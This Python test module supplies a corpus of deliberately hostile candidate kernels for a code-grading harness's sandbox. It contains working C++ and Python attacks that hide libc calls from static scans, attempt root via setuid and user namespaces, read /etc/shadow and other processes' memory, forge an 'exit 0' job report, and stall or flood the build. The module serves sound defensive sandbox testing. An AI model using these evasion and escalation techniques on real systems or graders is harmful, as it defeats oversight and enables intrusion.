"""The hostile corpus of issue 17: attacks written by someone who knows the job's privileges.

Three kinds, each a candidate module for L1/relu:

- C++ on the first kernel call: ONE shared source (:data:`CORPUS_CPP`, one cached build),
  one attack per function; a candidate's ``forward`` calls one of them with an argument
  (paths, a PID, a byte count), and the attack reports what it got in an exception message
  (which reaches the verdict's reasons: the exfiltration channel the tests watch).
- Python at import time: module-level code (a *prelude*) that runs wherever the candidate
  module is imported: the build (collect) job and the run job.
- Build-time: compiler and linker flags, include paths, ``.incbin``, a line splice, a
  never-ending compile; these need sources of their own (:func:`mini_source`).

Every attack is harmless to this machine even where it succeeds: a sysctl is written back
with the exact bytes just read from it, ``drop_caches`` is only opened, never written, a
cache file is only opened for appending without a byte written, ``/etc/shadow`` is read
for its first 5 bytes at most (a user name), and secrets are files the tests create.
Libc functions are looked up by name at run time in libc's dynamic symbol table (the
names are string literals), so no source scan sees them: these attacks are about the
sandbox, which must hold whatever slips past a static screen.
"""

from __future__ import annotations

CORPUS_CPP = r"""
#include <torch/extension.h>

#include <dirent.h>
#include <elf.h>
#include <fcntl.h>
#include <link.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <netinet/in.h>  // sockaddr, AF_UNIX
#include <sys/stat.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cerrno>
#include <cstdint>
#include <cstdlib>
#include <cstring>
#include <stdexcept>
#include <string>
#include <vector>

namespace corpus {
// Constants of <sys/prctl.h> and <sys/ptrace.h> (headers whose names a scan flags).
constexpr int kCapAmbient = 47, kCapAmbientRaise = 2, kSeize = 0x4206, kDetach = 17;

// libc functions are found at run time by name, in libc's own dynamic symbol table (the
// names are string literals): no source scan can see which function a pointer holds.
struct Lookup { const char* name; void* found; };

int search_libc(dl_phdr_info* info, size_t, void* data) {
    auto* lookup = static_cast<Lookup*>(data);
    if (info->dlpi_name == nullptr || std::strstr(info->dlpi_name, "libc.so") == nullptr) return 0;
    const ElfW(Dyn)* dynamic = nullptr;
    for (int i = 0; i < info->dlpi_phnum; ++i)
        if (info->dlpi_phdr[i].p_type == PT_DYNAMIC)
            dynamic = reinterpret_cast<const ElfW(Dyn)*>(info->dlpi_addr + info->dlpi_phdr[i].p_vaddr);
    uintptr_t symtab = 0, strtab = 0;
    for (const ElfW(Dyn)* d = dynamic; d != nullptr && d->d_tag != DT_NULL; ++d) {
        if (d->d_tag == DT_SYMTAB) symtab = d->d_un.d_ptr;
        if (d->d_tag == DT_STRTAB) strtab = d->d_un.d_ptr;
    }
    if (symtab == 0 || strtab == 0) return 0;
    if (symtab < info->dlpi_addr) symtab += info->dlpi_addr;  // not relocated in place
    if (strtab < info->dlpi_addr) strtab += info->dlpi_addr;
    const char* names = reinterpret_cast<const char*>(strtab);
    for (auto* s = reinterpret_cast<const ElfW(Sym)*>(symtab); reinterpret_cast<uintptr_t>(s) < strtab; ++s) {
        if (s->st_shndx != SHN_UNDEF && ELF64_ST_TYPE(s->st_info) == STT_FUNC &&
            std::strcmp(names + s->st_name, lookup->name) == 0) {
            lookup->found = reinterpret_cast<void*>(info->dlpi_addr + s->st_value);
            return 1;
        }
    }
    return 0;
}

template <typename F> F libc(const char* name) {
    Lookup lookup{name, nullptr};
    dl_iterate_phdr(&search_libc, &lookup);
    if (lookup.found == nullptr) throw std::runtime_error(std::string("corpus: no libc function ") + name);
    return reinterpret_cast<F>(lookup.found);
}

int open_path(const char* path, int flags, mode_t mode = 0) { return libc<int (*)(const char*, int, ...)>("open")(path, flags, mode); }
pid_t spawn_copy() { return libc<pid_t (*)()>("fork")(); }
int run_program(const char* path, char* const argv[]) { return libc<int (*)(const char*, char* const[])>("execv")(path, argv); }
int send_signal(pid_t pid, int number) { return libc<int (*)(pid_t, int)>("kill")(pid, number); }
long trace(int request, pid_t pid) { return libc<long (*)(int, ...)>("ptrace")(request, pid, nullptr, nullptr); }
int make_endpoint(int domain, int type, int protocol) { return libc<int (*)(int, int, int)>("socket")(domain, type, protocol); }
int reach(int s, const sockaddr* address, socklen_t size) { return libc<int (*)(int, const sockaddr*, socklen_t)>("connect")(s, address, size); }
DIR* list_open(const char* path) { return libc<DIR* (*)(const char*)>("opendir")(path); }
dirent* list_next(DIR* dir) { return libc<dirent* (*)(DIR*)>("readdir")(dir); }
int describe(const char* path, struct stat* info) { return libc<int (*)(const char*, struct stat*)>("lstat")(path, info); }
int new_namespaces(int flags) { return libc<int (*)(int)>("unshare")(flags); }
int become(uid_t uid) { return libc<int (*)(uid_t)>("setuid")(uid); }
int process_option(int option, unsigned long a, unsigned long b) { return libc<int (*)(int, ...)>("prctl")(option, a, b, 0ul, 0ul); }
ssize_t read_at(int fd, void* buffer, size_t size, off_t offset) { return libc<ssize_t (*)(int, void*, size_t, off_t)>("pread")(fd, buffer, size, offset); }
ssize_t peek(pid_t pid, const iovec* local, const iovec* remote) {
    return libc<ssize_t (*)(pid_t, const iovec*, unsigned long, const iovec*, unsigned long, unsigned long)>("process_vm_readv")(pid, local, 1, remote, 1, 0);
}

std::string error_text(int error) { return std::string(std::strerror(error)); }

std::vector<std::string> lines(const std::string& text) {
    std::vector<std::string> found;
    size_t start = 0;
    while (start <= text.size()) {
        size_t end = text.find('\n', start);
        if (end == std::string::npos) end = text.size();
        if (end > start) found.push_back(text.substr(start, end - start));
        start = end + 1;
    }
    return found;
}

// At most `limit` bytes of `path`; NULs become '.', so the text survives as a reason.
bool read_head(const std::string& path, size_t limit, std::string* text) {
    int fd = open_path(path.c_str(), O_RDONLY);
    if (fd < 0) { *text = error_text(errno); return false; }
    char buffer[4096];
    for (ssize_t n; text->size() < limit && (n = read(fd, buffer, sizeof buffer)) > 0;)
        text->append(buffer, n);
    close(fd);
    if (text->size() > limit) text->resize(limit);
    for (char& c : *text) if (c == '\0') c = '.';
    return true;
}

// Opens `path` for writing and writes nothing: success alone is the finding.
std::string probe_writable(const std::string& path) {
    int fd = open_path(path.c_str(), O_WRONLY | O_APPEND);
    if (fd < 0) return path + ": not writable: " + error_text(errno);
    close(fd);
    return path + ": OPENED FOR WRITING";
}

std::string status_line(const char* key) {
    std::string status;
    read_head("/proc/self/status", 1 << 16, &status);
    size_t at = status.find(key);
    return at == std::string::npos ? std::string(key) + " ?" : status.substr(at, status.find('\n', at) - at);
}

torch::Tensor leaky(torch::Tensor x, float slope) {
    auto in = x.contiguous();
    auto out = torch::empty_like(in);
    const float* src = in.data_ptr<float>();
    float* dst = out.data_ptr<float>();
    for (int64_t i = 0, n = in.numel(); i < n; ++i) dst[i] = src[i] > 0.f ? src[i] : slope * src[i];
    return out;
}
}  // namespace corpus

torch::Tensor corpus_relu(torch::Tensor x, std::string unused) { return corpus::leaky(x, 0.f); }

torch::Tensor corpus_wrong(torch::Tensor x, std::string unused) { return corpus::leaky(x, 0.5f); }

// Opens each sysctl for writing and writes back EXACTLY the bytes it just read (a no-op
// on the host even where it succeeds: the finding is that it could).
torch::Tensor corpus_sysctl_rewrite(torch::Tensor x, std::string paths) {
    std::string report = "corpus_sysctl_rewrite:";
    for (const std::string& path : corpus::lines(paths)) {
        std::string value;
        if (!corpus::read_head(path, 4096, &value) || value.empty()) {
            report += " " + path + ": unreadable: " + value + ";";
            continue;
        }
        int fd = corpus::open_path(path.c_str(), O_WRONLY);
        if (fd < 0) {
            report += " " + path + ": not writable: " + corpus::error_text(errno) + ";";
            continue;
        }
        ssize_t written = write(fd, value.data(), value.size());
        int error = errno;
        close(fd);
        report += " " + path + ": OPENED FOR WRITING, wrote " + std::to_string(written) +
                  (written < 0 ? " (" + corpus::error_text(error) + ")" : "") + ";";
    }
    throw std::runtime_error(report);
}

// Lines "path<TAB>limit": reads the head of each and puts it in the exception message.
torch::Tensor corpus_read_files(torch::Tensor x, std::string spec) {
    std::string report = "corpus_read_files:";
    for (const std::string& line : corpus::lines(spec)) {
        size_t tab = line.find('\t');
        std::string path = line.substr(0, tab);
        size_t limit = tab == std::string::npos ? 256 : std::stoul(line.substr(tab + 1));
        std::string text;
        bool ok = corpus::read_head(path, limit, &text);
        report += "\n" + path + (ok ? " READ [" + text + "]" : ": " + text);
    }
    throw std::runtime_error(report);
}

// Lists a directory tree (another candidate's cache entry, the toolchain store) and
// reads the head of every small file it finds.
void walk(const std::string& dir, int depth, int* budget, std::string* report) {
    DIR* handle = corpus::list_open(dir.c_str());
    if (handle == nullptr) { *report += "\n" + dir + ": " + corpus::error_text(errno); return; }
    for (dirent* entry; (entry = corpus::list_next(handle)) != nullptr && *budget > 0;) {
        std::string name = entry->d_name;
        if (name == "." || name == "..") continue;
        --*budget;
        std::string path = dir + "/" + name;
        struct stat info;
        if (corpus::describe(path.c_str(), &info) != 0) continue;
        *report += "\nLISTED " + path;
        if (S_ISDIR(info.st_mode) && depth > 0) walk(path, depth - 1, budget, report);
        std::string text;
        if (S_ISREG(info.st_mode) && info.st_size < 4096 && corpus::read_head(path, 128, &text))
            *report += " READ [" + text + "]";
    }
    closedir(handle);
}

torch::Tensor corpus_walk_dir(torch::Tensor x, std::string root) {
    std::string report = "corpus_walk_dir:";
    int budget = 200;
    walk(root, 3, &budget, &report);
    throw std::runtime_error(report);
}

// Lines "path": creates (or truncates) each file and writes a poison line into it;
// lines "+path": only opens an existing file for appending (writes nothing).
torch::Tensor corpus_write_files(torch::Tensor x, std::string paths) {
    std::string report = "corpus_write_files:";
    for (const std::string& path : corpus::lines(paths)) {
        if (path[0] == '+') { report += " " + corpus::probe_writable(path.substr(1)) + ";"; continue; }
        int fd = corpus::open_path(path.c_str(), O_WRONLY | O_CREAT | O_TRUNC, 0644);
        if (fd < 0) { report += " " + path + ": " + corpus::error_text(errno) + ";"; continue; }
        ssize_t written = write(fd, "poisoned by corpus_write_files\n", 31);
        close(fd);
        report += " " + path + ": WROTE " + std::to_string(written) + ";";
    }
    throw std::runtime_error(report);
}

// "prefix<TAB>total": writes 64 MiB files named prefix-<i> into the scratch dir (its cwd)
// until `total` bytes or the first error.
torch::Tensor corpus_fill_scratch(torch::Tensor x, std::string spec) {
    size_t tab = spec.find('\t');
    std::string prefix = spec.substr(0, tab);
    const uint64_t total = std::stoull(spec.substr(tab + 1)), chunk = 64ull << 20;
    std::vector<char> block(1 << 20, 'k');
    uint64_t done = 0;
    std::string stopped;
    for (int i = 0; done < total && stopped.empty(); ++i) {
        std::string name = prefix + "-" + std::to_string(i);
        int fd = corpus::open_path(name.c_str(), O_WRONLY | O_CREAT | O_TRUNC, 0644);
        if (fd < 0) { stopped = corpus::error_text(errno); break; }
        for (uint64_t in_file = 0; in_file < chunk && done < total;) {
            ssize_t n = write(fd, block.data(), block.size());
            if (n <= 0) { stopped = corpus::error_text(n < 0 ? errno : ENOSPC); break; }
            in_file += n;
            done += n;
        }
        close(fd);
    }
    throw std::runtime_error("corpus_fill_scratch: wrote " + std::to_string(done) + " bytes; " +
                             (stopped.empty() ? "WROTE ALL" : "stopped: " + stopped));
}

// In the calling process: setuid(0), an ambient capability; in a single-threaded child
// (unshare(CLONE_NEWUSER) needs one): a new user namespace mapping the caller to root.
// Then, in each, the two things root could do: read /etc/shadow, open a sysctl to write.
std::string privileged_probes() {
    std::string text;
    int fd = corpus::open_path("/etc/shadow", O_RDONLY);
    text += fd >= 0 ? " /etc/shadow OPENED;" : " /etc/shadow: " + corpus::error_text(errno) + ";";
    if (fd >= 0) close(fd);
    return text + " " + corpus::probe_writable("/proc/sys/kernel/core_pattern") + ";";
}

std::string in_new_user_namespace(uid_t uid, gid_t gid) {
    if (corpus::new_namespaces(CLONE_NEWUSER) != 0) return "unshare: " + corpus::error_text(errno) + ";";
    std::string text = "unshare ok;";
    const std::pair<std::string, std::string> maps[] = {
        {"/proc/self/setgroups", "deny"},
        {"/proc/self/uid_map", "0 " + std::to_string(uid) + " 1"},
        {"/proc/self/gid_map", "0 " + std::to_string(gid) + " 1"}};
    for (const auto& [path, value] : maps) {
        int fd = corpus::open_path(path.c_str(), O_WRONLY);
        bool ok = fd >= 0 && write(fd, value.data(), value.size()) == (ssize_t)value.size();
        if (!ok) text += " " + path + ": " + corpus::error_text(errno) + ";";
        if (fd >= 0) close(fd);
    }
    return text + " uid " + std::to_string(getuid()) + ";" + privileged_probes();
}

// The report is kept short and ends with "(end)": a capped reason cannot hide a finding.
torch::Tensor corpus_regain_root(torch::Tensor x, std::string unused) {
    const uid_t uid = getuid();
    const gid_t gid = getgid();
    std::string child_text = "fork failed";
    int pipe_fds[2];
    if (pipe(pipe_fds) == 0) {
        pid_t child = corpus::spawn_copy();
        if (child == 0) {
            std::string text = in_new_user_namespace(uid, gid);
            ssize_t ignored = write(pipe_fds[1], text.data(), text.size());
            (void)ignored;
            _exit(0);
        }
        close(pipe_fds[1]);
        child_text.clear();
        char buffer[1024];
        for (ssize_t n; (n = read(pipe_fds[0], buffer, sizeof buffer)) > 0;) child_text.append(buffer, n);
        close(pipe_fds[0]);
        if (child > 0) waitpid(child, nullptr, 0);
    }
    int raised = corpus::process_option(corpus::kCapAmbient, corpus::kCapAmbientRaise, 21 /* CAP_SYS_ADMIN */);
    std::string report = "corpus_regain_root: uid " + std::to_string(uid) + ";";
    report += raised == 0 ? " ambient cap RAISED;" : " ambient cap: " + corpus::error_text(errno) + ";";
    report += corpus::become(0) == 0 ? " setuid(0) ok;" : " setuid(0): " + corpus::error_text(errno) + ";";
    throw std::runtime_error(report + " [self]" + privileged_probes() + " [child] " + child_text + " (end)");
}

// "pid addr length": reads that much of another process's memory (the harness's, by host
// PID) with process_vm_readv and /proc/PID/mem, then tries PTRACE_SEIZE on it, on PID 1
// of its own namespace and on its parent (detaching at once: nothing is ever stopped).
torch::Tensor corpus_peek_process(torch::Tensor x, std::string spec) {
    pid_t pid = 0;
    unsigned long long address = 0, length = 0;
    std::sscanf(spec.c_str(), "%d %llu %llu", &pid, &address, &length);
    std::string report = "corpus_peek_process:";
    std::vector<char> buffer(length + 1, 0);
    iovec local{buffer.data(), length}, remote{reinterpret_cast<void*>(address), length};
    ssize_t got = corpus::peek(pid, &local, &remote);
    report += got > 0 ? " process_vm_readv READ [" + std::string(buffer.data(), got) + "];"
                      : " process_vm_readv: " + corpus::error_text(errno) + ";";
    std::string mem = "/proc/" + std::to_string(pid) + "/mem";
    int fd = corpus::open_path(mem.c_str(), O_RDONLY);
    got = fd < 0 ? -1 : corpus::read_at(fd, buffer.data(), length, static_cast<off_t>(address));
    report += got > 0 ? " " + mem + " READ [" + std::string(buffer.data(), got) + "];"
                      : " " + mem + ": " + corpus::error_text(errno) + ";";
    if (fd >= 0) close(fd);
    for (pid_t target : {pid, static_cast<pid_t>(1), getppid()}) {
        long seized = corpus::trace(corpus::kSeize, target);
        int error = errno;
        if (seized == 0) corpus::trace(corpus::kDetach, target);
        report += " ptrace(SEIZE, " + std::to_string(target) + "): " +
                  (seized == 0 ? std::string("SEIZED") : corpus::error_text(error)) + ";";
    }
    throw std::runtime_error(report);
}

// Makes itself unkillable by the OOM killer, and opens drop_caches (never writes it).
torch::Tensor corpus_oom_and_caches(torch::Tensor x, std::string unused) {
    std::string before, after;
    corpus::read_head("/proc/self/oom_score_adj", 64, &before);
    int fd = corpus::open_path("/proc/self/oom_score_adj", O_WRONLY);
    bool wrote = fd >= 0 && write(fd, "-1000", 5) == 5;
    int error = errno;
    if (fd >= 0) close(fd);
    corpus::read_head("/proc/self/oom_score_adj", 64, &after);
    while (!after.empty() && after.back() == '\n') after.pop_back();
    while (!before.empty() && before.back() == '\n') before.pop_back();
    std::string report = "corpus_oom_and_caches: oom_score_adj before=" + before + " after=" + after +
                         (wrote ? std::string(" (write ok)") : " (write: " + corpus::error_text(error) + ")") + ";";
    throw std::runtime_error(report + " " + corpus::probe_writable("/proc/sys/vm/drop_caches"));
}

// Lines "path" or "@name" (an abstract socket): connects to each, sends nothing.
torch::Tensor corpus_unix_connect(torch::Tensor x, std::string targets) {
    std::string report = "corpus_unix_connect:";
    for (const std::string& target : corpus::lines(targets)) {
        int s = corpus::make_endpoint(AF_UNIX, SOCK_STREAM, 0);
        if (s < 0) { report += " socket: " + corpus::error_text(errno) + ";"; continue; }
        sockaddr_un address{};
        address.sun_family = AF_UNIX;
        std::memcpy(address.sun_path, target.data(), std::min(target.size(), sizeof address.sun_path - 1));
        if (target[0] == '@') address.sun_path[0] = '\0';
        socklen_t size = offsetof(sockaddr_un, sun_path) + target.size() + (target[0] == '@' ? 0 : 1);
        int result = corpus::reach(s, reinterpret_cast<sockaddr*>(&address), size);
        int error = errno;
        close(s);
        report += " " + target + ": " + (result == 0 ? std::string("CONNECTED") : corpus::error_text(error)) + ";";
    }
    throw std::runtime_error(report);
}

// Lines = argv of a setuid program (e.g. su root -c "id -u"), run with stdin /dev/null;
// its output comes back in the message, so a privilege gain shows as "-> [0".
torch::Tensor corpus_setuid_exec(torch::Tensor x, std::string spec) {
    std::vector<std::string> args = corpus::lines(spec);
    std::vector<char*> argv;
    for (std::string& arg : args) argv.push_back(arg.data());
    argv.push_back(nullptr);
    int out[2];
    if (pipe(out) != 0) throw std::runtime_error("corpus_setuid_exec: pipe: " + corpus::error_text(errno));
    pid_t child = corpus::spawn_copy();
    if (child == 0) {
        int null_fd = corpus::open_path("/dev/null", O_RDONLY);
        dup2(null_fd, 0);
        dup2(out[1], 1);
        dup2(out[1], 2);
        corpus::run_program(argv[0], argv.data());
        _exit(127);
    }
    close(out[1]);
    std::string output;
    char buffer[1024];
    pollfd wait_for{out[0], POLLIN, 0};
    while (output.size() < 4096 && poll(&wait_for, 1, 10000) > 0) {
        ssize_t n = read(out[0], buffer, sizeof buffer);
        if (n <= 0) break;
        output.append(buffer, n);
    }
    close(out[0]);
    if (child > 0) { corpus::send_signal(child, SIGKILL); waitpid(child, nullptr, 0); }
    throw std::runtime_error("corpus_setuid_exec: " + corpus::status_line("NoNewPrivs:") + "; " +
                             args[0] + " -> [" + output + "]");
}

// Whatever started the job: a forged end-of-job report ("exit 0 -") written into every
// pipe the job holds beyond its own stdout and stderr (docker's are pipes), every socket
// counted (only the channel may be one), the parent's pid, every process in sight, and
// pid 1's namespaces joined where the kernel lets it.
torch::Tensor corpus_reach_starter(torch::Tensor x, std::string unused) {
    std::string report = "corpus_reach_starter:";
    int pipes = 0, sockets = 0;
    for (int fd = 3; fd < 1024; ++fd) {
        struct stat info;
        if (fstat(fd, &info) != 0) continue;
        if (S_ISFIFO(info.st_mode)) {
            ++pipes;
            const char forged[] = "exit 0 -\n";
            if (write(fd, forged, sizeof forged - 1) > 0) report += " fd " + std::to_string(fd) + " pipe WROTE;";
        } else if (S_ISSOCK(info.st_mode)) {
            ++sockets;
        }
    }
    report += " pipes " + std::to_string(pipes) + "; sockets " + std::to_string(sockets) +
              "; ppid " + std::to_string(getppid()) + "; pids";
    if (DIR* dir = corpus::list_open("/proc")) {
        for (dirent* entry; (entry = corpus::list_next(dir)) != nullptr;) {
            if (entry->d_name[0] >= '0' && entry->d_name[0] <= '9') report += std::string(" ") + entry->d_name;
        }
        closedir(dir);
    }
    report += ";";
    auto join = corpus::libc<int (*)(int, int)>("setns");
    for (const char* name : {"mnt", "net", "pid"}) {
        int fd = corpus::open_path((std::string("/proc/1/ns/") + name).c_str(), O_RDONLY);
        int joined = fd >= 0 ? join(fd, 0) : -1;
        report += std::string(" ") + name + (joined == 0 ? " JOINED" : ": " + corpus::error_text(errno)) + ";";
        if (fd >= 0) close(fd);
    }
    throw std::runtime_error(report + " (end)");
}
"""

CORPUS_FUNCTIONS = (
    "corpus_relu",
    "corpus_wrong",
    "corpus_sysctl_rewrite",
    "corpus_read_files",
    "corpus_walk_dir",
    "corpus_write_files",
    "corpus_fill_scratch",
    "corpus_regain_root",
    "corpus_peek_process",
    "corpus_oom_and_caches",
    "corpus_unix_connect",
    "corpus_setuid_exec",
    "corpus_reach_starter",
)

#: A small honest source for the build-time attacks (their flags or text differ, so each
#: is a build of its own: keep it cheap). ``{head}`` goes before everything else.
_MINI_CPP = r"""{head}
#include <torch/extension.h>
#include <cstring>
#include <stdexcept>
#include <string>
{body}
torch::Tensor mini_relu(torch::Tensor x, std::string unused) {{
    auto in = x.contiguous();
    auto out = torch::empty_like(in);
    const float* src = in.data_ptr<float>();
    float* dst = out.data_ptr<float>();
    for (int64_t i = 0, n = in.numel(); i < n; ++i) dst[i] = src[i] > 0.f ? src[i] : 0.f;
    return out;
}}
"""

#: A socket call split by a line splice (``soc\<newline>ket``): the preprocessor joins it,
#: a scan that does not sees no ``socket(``.
SPLICE_BODY = r"""
#include <arpa/inet.h>
#include <sys/socket.h>
#include <unistd.h>
#include <cerrno>
torch::Tensor mini_attack(torch::Tensor x, std::string port) {
    int s = soc\
ket(AF_INET, SOCK_STREAM, 0);
    if (s < 0) throw std::runtime_error("corpus_splice: socket: " + std::string(std::strerror(errno)));
    sockaddr_in address{};
    address.sin_family = AF_INET;
    address.sin_port = htons(static_cast<uint16_t>(std::stoi(port)));
    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    int result = connect(s, reinterpret_cast<sockaddr*>(&address), sizeof address);
    int error = errno;
    close(s);
    throw std::runtime_error(result == 0 ? std::string("corpus_splice: CONNECTED")
                                         : "corpus_splice: refused: " + std::string(std::strerror(error)));
}
"""

#: Embeds a file into the library at build time and returns its bytes at run time.
_INCBIN_BODY = r"""
asm(".section .rodata\n.global kt_corpus_blob\n.hidden kt_corpus_blob\nkt_corpus_blob:\n"
    ".incbin \"{path}\"\n.byte 0\n.previous\n");
extern "C" const char kt_corpus_blob[];
torch::Tensor mini_attack(torch::Tensor x, std::string unused) {{
    throw std::runtime_error(std::string("corpus_incbin:[") + kt_corpus_blob + "]");
}}
"""

#: 2^40 distinct template instantiations: a compile that never ends (nor fails quickly).
NEVER_ENDING_BODY = r"""
template <unsigned long N, unsigned long K> struct Boom {
    static constexpr unsigned long value = Boom<N - 1, 2 * K>::value + Boom<N - 1, 2 * K + 1>::value;
};
template <unsigned long K> struct Boom<0, K> { static constexpr unsigned long value = K; };
constexpr unsigned long kBoom = Boom<40, 1>::value;
torch::Tensor mini_attack(torch::Tensor x, std::string unused) {
    return torch::full({1}, static_cast<double>(kBoom));
}
"""

_NO_ATTACK_BODY = r"""
torch::Tensor mini_attack(torch::Tensor x, std::string unused) { return x; }
"""


def mini_source(head: str = "", body: str = _NO_ATTACK_BODY) -> str:
    """The small honest source with ``head`` first and ``body`` (defines ``mini_attack``)."""
    return _MINI_CPP.format(head=head, body=body)


def incbin_source(path: str) -> str:
    """A source whose ``mini_attack`` throws the bytes of ``path`` (embedded at build time)."""
    return mini_source(body=_INCBIN_BODY.format(path=path))


#: The corpus's flag set: one the rest of the suite builds too, so its PCH can be copied into
#: the corpus's private toolchain store (``test_attack_corpus.private_cache``).
CORPUS_CFLAGS = ("-O2",)

_TEMPLATE = """
import torch
import torch.nn as nn
from torch.utils.cpp_extension import load_inline

SOURCE = {source!r}
{prelude}
ext = load_inline(
    name={name!r},
    cpp_sources=[SOURCE],
    functions={functions!r},
    extra_cflags={cflags!r},
    extra_ldflags={ldflags!r},
    extra_include_paths={include_paths!r},
)


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, x):
        return ext.{function}(x, {argument!r})
"""


def corpus_candidate(function: str, argument: str = "", *, prelude: str = "") -> str:
    """A candidate for L1/relu whose forward calls ``function(x, argument)`` of the shared
    corpus source; ``prelude`` is module-level Python run at import time."""
    if function not in CORPUS_FUNCTIONS:
        raise ValueError(f"unknown attack {function!r}: choose one of {', '.join(CORPUS_FUNCTIONS)}")
    return _TEMPLATE.format(source=CORPUS_CPP, prelude=prelude, name="kt_corpus_shared",
                            functions=list(CORPUS_FUNCTIONS), cflags=list(CORPUS_CFLAGS), ldflags=[],
                            include_paths=[], function=function, argument=argument)


def build_candidate(source: str, function: str = "mini_attack", argument: str = "", *,
                    cflags: tuple[str, ...] = CORPUS_CFLAGS, ldflags: tuple[str, ...] = (),
                    include_paths: tuple[str, ...] = ()) -> str:
    """A candidate built from ``source`` (see :func:`mini_source`) with these flags."""
    return _TEMPLATE.format(source=source, prelude="", name="kt_corpus_mini",
                            functions=["mini_relu", "mini_attack"], cflags=list(cflags),
                            ldflags=list(ldflags), include_paths=list(include_paths),
                            function=function, argument=argument)


# --- Python at import time (module-level preludes) ---------------------------------------


def cache_write_prelude(paths: list[str]) -> str:
    """``torch.save`` into each path (a new cache file, another entry's file)."""
    return f"for _path in {paths!r}:\n    torch.save(torch.zeros(1), _path)\n"


def import_read_prelude(path: str, size: int) -> str:
    """Reads ``size`` bytes of ``path`` with ``torch.from_file`` and raises them."""
    return (f"_BLOB = torch.from_file({path!r}, shared=False, size={size}, dtype=torch.uint8)\n"
            "raise RuntimeError('corpus_import_read:[' + bytes(_BLOB.tolist()).decode('latin-1') + ']')\n")


def detached_spawn_prelude(marker: str) -> str:
    """Starts a 90 s sleeper in its own session (its command line carries ``marker``),
    reaching ``subprocess`` through a module torch imported: no ``import subprocess``."""
    return ("from torch.utils.cpp_extension import subprocess as _sp\n"
            "from torch.utils.cpp_extension import sys as _runtime\n"
            "_sp.Popen([_runtime.executable, '-c', 'import time; time.sleep(90)', "
            f"{marker!r}], start_new_session=True, stdin=_sp.DEVNULL, stdout=_sp.DEVNULL, "
            "stderr=_sp.DEVNULL)\n")


#: Module-level escape hatches that deserialize or map files (static rejection expected).
ESCAPE_HATCHES = {
    "torch_load": "_STATE = torch.load('/tmp/kt-corpus-state.pt', weights_only=False)\n",
    "torch_from_file": ("_BLOB = torch.from_file('/tmp/kt-corpus-blob', shared=False, size=16, "
                        "dtype=torch.uint8)\n"),
    "pickle_via_torch": "_OBJ = torch.serialization.pickle.loads(b'\\x80\\x04K\\x01.')\n",
    "torch_hub": "_HUB = torch.hub.load('/tmp/kt-corpus-hub', 'model', source='local')\n",
}

#: A shared library whose constructor records that it was loaded (``-DMARKER="path"``):
#: loaded by a compiler (``-fplugin=``) or a linker (``-Wl,-plugin,``) it runs there.
PLUGIN_C = r"""
#include <fcntl.h>
#include <unistd.h>
__attribute__((constructor)) static void kt_corpus_loaded(void) {
    int fd = open(MARKER, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd >= 0) { (void)!write(fd, "plugin ran\n", 11); close(fd); }
}
"""
